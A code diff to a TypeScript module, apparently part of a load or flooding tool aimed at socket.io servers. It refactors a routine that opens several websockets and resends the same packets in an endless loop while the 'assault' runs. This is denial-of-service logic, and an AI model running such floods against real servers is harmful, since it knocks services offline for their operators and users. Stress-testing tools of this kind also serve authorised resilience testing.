@@ -1,6 +1,7 @@
 import type { Assault } from './assault.ts'
 import type { Attack } from './attack.ts'
 import { clientFrame, repeated } from './client-frame.ts'
+import { repeatFrames } from './repeat-frames.ts'
 import { flood } from './requests.ts'
 import { get } from './wire.ts'
 
@@ -10,14 +11,8 @@ const connect = clientFrame('40')
 const event = (...args: readonly unknown[]) => clientFrame(`42${JSON.stringify(args)}`)
 
 /** The same packets for ever, on a few sockets that are connected. */
-async function repeatPackets(assault: Assault, packets: Uint8Array): Promise<void> {
-  await assault.crowd(4, async (wire) => {
-    await wire.upgrade(`${path}websocket`)
-    wire.listen()
-    await wire.write(connect)
-    while (assault.isOn && wire.isOpen) await wire.write(packets)
-  })
-}
+const repeatPackets = (assault: Assault, packets: Uint8Array) =>
+  repeatFrames(assault, packets, { path: `${path}websocket`, first: connect })
 
 export const socketIo: readonly Attack[] = [
   {
